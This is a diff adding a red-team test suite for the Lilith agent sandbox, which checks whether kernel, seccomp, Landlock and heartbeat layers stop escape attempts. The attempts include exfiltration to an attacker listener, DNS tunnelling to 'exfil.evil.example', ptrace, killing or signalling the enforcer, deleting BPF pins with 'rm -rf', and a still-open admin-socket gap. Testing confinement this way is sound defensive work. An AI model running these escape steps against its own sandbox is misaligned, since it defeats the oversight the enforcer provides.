@@ -1,0 +1,235 @@
+// The escape attempts Lilith knows, each run as a real process against a real
+// enforcer (kernel programs in cgroup-only mode on this host, the dataplane,
+// lilith run confinement) and judged by what actually happened: did the data
+// reach the attacker's listener, did the syscall fail, is the daemon alive.
+import type { RedteamEnv } from './env.js';
+
+export interface Outcome {
+  blocked: boolean;
+  detail: string;
+}
+
+export interface Attempt {
+  id: string;
+  what: string;
+  /** The layer expected to stop it. */
+  layer: 'kernel (cgroup BPF)' | 'dataplane' | 'seccomp' | 'landlock' | 'kernel (BPF-LSM)' | 'heartbeat';
+  /**
+   * 'blocked': must be blocked here. 'vm-only': needs BPF-LSM, which this
+   * host's lockdown refuses; run on the VM kernels (npm run redteam -- --vm).
+   * 'open': a known gap, reported honestly until it is closed (see `note`).
+   */
+  expect: 'blocked' | 'vm-only' | 'open';
+  note?: string;
+  run(env: RedteamEnv): Promise<Outcome>;
+}
+
+const EPERM = 1;
+
+/** Data must not reach the attacker's listener, whatever the client saw. */
+async function exfil(env: RedteamEnv, probeArgs: string[], channel: 'tcp' | 'tcp6' | 'udp'): Promise<Outcome> {
+  const before = env.exfil.received(channel);
+  const lines = await env.probeInAgent(probeArgs);
+  await env.sleep(200);
+  const after = env.exfil.received(channel);
+  const last = lines.at(-1);
+  return {
+    blocked: after === before,
+    detail: `${after === before ? 'nothing reached' : `${after - before} connection(s)/datagram(s) reached`} the ${channel} listener; client saw ${last ? (last.ok ? 'success (redirected)' : `${last.err}`) : 'no result'}`,
+  };
+}
+
+async function syscallDenied(env: RedteamEnv, probeArgs: string[]): Promise<Outcome> {
+  const [r] = await env.probeInAgent(probeArgs);
+  return { blocked: !!r && !r.ok && r.errno === EPERM, detail: r ? (r.ok ? 'succeeded' : `failed: ${r.err}`) : 'no result' };
+}
+
+async function confinedProbe(env: RedteamEnv, attempt: string, arg?: string, profile?: string): Promise<Outcome> {
+  const r = await env.runConfined([env.escapeProbe, attempt, ...(arg ? [arg] : [])], profile);
+  const line = r.stdout.trim().split('\n').at(-1) ?? '';
+  let parsed: { ok: boolean; error: string } | null = null;
+  try {
+    parsed = JSON.parse(line) as { ok: boolean; error: string };
+  } catch {
+    return { blocked: false, detail: `no result (exit ${r.code}): ${r.stderr.trim().slice(0, 200)}` };
+  }
+  return { blocked: !parsed.ok, detail: parsed.ok ? 'succeeded' : `failed: ${parsed.error}` };
+}
+
+export const ATTEMPTS: Attempt[] = [
+  {
+    id: 'tcp-exfil',
+    what: 'TCP connect straight to an attacker host',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => exfil(env, ['connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp'),
+  },
+  {
+    id: 'ipv6-exfil',
+    what: 'TCP over IPv6 (connect4 alone would miss it)',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => exfil(env, ['connect', '::1', String(env.exfil.tcp6Port)], 'tcp6'),
+  },
+  {
+    id: 'v4mapped-exfil',
+    what: 'TCP to a v4-mapped IPv6 address (::ffff:a.b.c.d)',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => exfil(env, ['connect', `::ffff:${env.exfil.host4}`, String(env.exfil.tcpPort)], 'tcp'),
+  },
+  {
+    id: 'tfo-exfil',
+    what: 'TCP Fast Open: sendto(MSG_FASTOPEN) connects without connect()',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => exfil(env, ['tfo', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp'),
+  },
+  {
+    id: 'udp-exfil',
+    what: 'UDP datagram to an attacker host',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => exfil(env, ['udp', env.exfil.host4, String(env.exfil.udpPort)], 'udp'),
+  },
+  {
+    id: 'dns-tunnel',
+    what: 'DNS tunnelling: data encoded in a query name to an attacker resolver',
+    layer: 'dataplane',
+    expect: 'blocked',
+    async run(env) {
+      const before = env.exfil.received('dns');
+      const answer = await env.dnsQueryInAgent('c2VjcmV0LWRhdGE.exfil.evil.example', env.exfil.host4);
+      await env.sleep(200);
+      const reached = env.exfil.received('dns') - before;
+      return { blocked: reached === 0 && answer !== 'NOERROR', detail: `attacker resolver got ${reached} queries; the agent got ${answer}` };
+    },
+  },
+  {
+    id: 'raw-socket',
+    what: 'raw IP socket (ICMP tunnelling, spoofing)',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => syscallDenied(env, ['raw']),
+  },
+  {
+    id: 'packet-socket',
+    what: 'AF_PACKET socket (layer-2 injection), managed but unconfined',
+    layer: 'kernel (BPF-LSM)',
+    expect: 'vm-only',
+    note: 'cgroup/sock_create only runs for inet sockets (inet_create/inet6_create); AF_PACKET needs the socket_create LSM hook or seccomp',
+    run: (env) => syscallDenied(env, ['packet']),
+  },
+  {
+    id: 'packet-socket-confined',
+    what: 'AF_PACKET socket under lilith run',
+    layer: 'seccomp',
+    expect: 'blocked',
+    run: (env) => confinedProbe(env, 'packet_socket'),
+  },
+  {
+    id: 'daemonized-child',
+    what: 'double fork + setsid, then connect out',
+    layer: 'kernel (cgroup BPF)',
+    expect: 'blocked',
+    run: (env) => exfil(env, ['daemonize', 'connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp'),
+  },
+  {
+    id: 'exec-new-binary',
+    what: 'exec a binary that is not on the allowlist',
+    layer: 'kernel (BPF-LSM)',
+    expect: 'vm-only',
+    async run(env) {
+      const lines = await env.probeInAgent(['exec', env.copiedBinary, 'pid']);
+      const ran = lines.some((l) => l.op === 'pid' && l.ok);
+      return { blocked: !ran, detail: ran ? 'the copied binary ran (bprm_check_security needs BPF-LSM)' : 'exec refused' };
+    },
+  },
+  {
+    id: 'rwx-memory-strict',
+    what: 'anonymous RWX mapping under the strict profile',
+    layer: 'seccomp',
+    expect: 'blocked',
+    run: (env) => confinedProbe(env, 'mmap_rwx', undefined, 'strict'),
+  },
+  {
+    id: 'rwx-memory-lsm',
+    what: 'anonymous RWX mapping by a non-JIT agent (standard profile)',
+    layer: 'kernel (BPF-LSM)',
+    expect: 'vm-only',
+    run: (env) => confinedProbe(env, 'mmap_rwx'),
+  },
+  {
+    id: 'ptrace-daemon',
+    what: 'ptrace the enforcer',
+    layer: 'seccomp',
+    expect: 'blocked',
+    run: (env) => confinedProbe(env, 'ptrace', String(env.daemonPid())),
+  },
+  {
+    id: 'signal-daemon',
+    what: 'send a signal to the enforcer',
+    layer: 'landlock',
+    expect: 'blocked',
+    run: (env) => confinedProbe(env, 'kill', String(env.daemonPid())),
+  },
+  {
+    id: 'bpffs-pins',
+    what: 'delete the pinned BPF links (detach enforcement)',
+    layer: 'landlock',
+    expect: 'blocked',
+    async run(env) {
+      const r = await env.runConfined(['/bin/sh', '-c', `rm -rf ${env.pinRoot}/* 2>&1; ls ${env.pinRoot} 2>&1`]);
+      const intact = env.pinsIntact();
+      return { blocked: intact, detail: intact ? `pins intact (${r.stdout.trim().split('\n')[0] ?? ''})` : 'pins removed' };
+    },
+  },
+  {
+    id: 'bpf-syscall',
+    what: 'load BPF / touch maps with the bpf() syscall',
+    layer: 'seccomp',
+    expect: 'blocked',
+    run: (env) => confinedProbe(env, 'bpf'),
+  },
+  {
+    id: 'admin-socket',
+    what: 'connect to a local daemon on a pathname unix socket (the enforcer admin socket)',
+    layer: 'landlock',
+    expect: 'open',
+    note: 'Landlock does not mediate connect() to pathname unix sockets; closing it needs the cgroup connect_unix hook (6.7+) or the unix_stream_connect LSM hook. The admin socket itself only serves status, attestation and what-if decisions.',
+    async run(env) {
+      const r = await env.runConfined([process.execPath, '-e', `const s=require('net').connect(${JSON.stringify(env.adminSocket)});s.on('connect',()=>{console.log('CONNECTED');s.destroy()});s.on('error',e=>console.log(e.code))`]);
+      const out = r.stdout.trim();
+      return { blocked: out !== 'CONNECTED', detail: out || r.stderr.trim().slice(0, 200) };
+    },
+  },
+  {
+    id: 'abstract-unix',
+    what: 'connect to a local daemon on an abstract unix socket',
+    layer: 'landlock',
+    expect: 'blocked',
+    async run(env) {
+      const r = await env.runConfined([process.execPath, '-e', `const s=require('net').connect(${JSON.stringify(env.abstractSocket)});s.on('connect',()=>{console.log('CONNECTED');s.destroy()});s.on('error',e=>console.log(e.code))`]);
+      const out = r.stdout.trim();
+      return { blocked: out !== 'CONNECTED', detail: out || r.stderr.trim().slice(0, 200) };
+    },
+  },
+  {
+    id: 'kill-daemon-then-exfil',
+    what: 'kill -9 the enforcer, then connect out (fail closed)',
+    layer: 'heartbeat',
+    expect: 'blocked',
+    async run(env) {
+      const killedAt = Date.now();
+      await env.killDaemon();
+      const lines = await env.probeInAgent(['until', 'denied', '3000', env.exfil.host4, String(env.exfil.tcpPort)]);
+      const r = lines.at(-1);
+      const before = env.exfil.received('tcp');
+      const after = await exfil(env, ['connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp');
+      return {
+        blocked: !!r?.ok && after.blocked && env.exfil.received('tcp') === before,
+        detail: r?.ok ? `EPERM ${Date.now() - killedAt} ms after SIGKILL (TTL ${env.heartbeatTtlMs} ms); ${after.detail}` : `connects still allowed 3 s after SIGKILL: ${r?.err ?? 'no result'}`,
+      };
+    },
+  },
+];
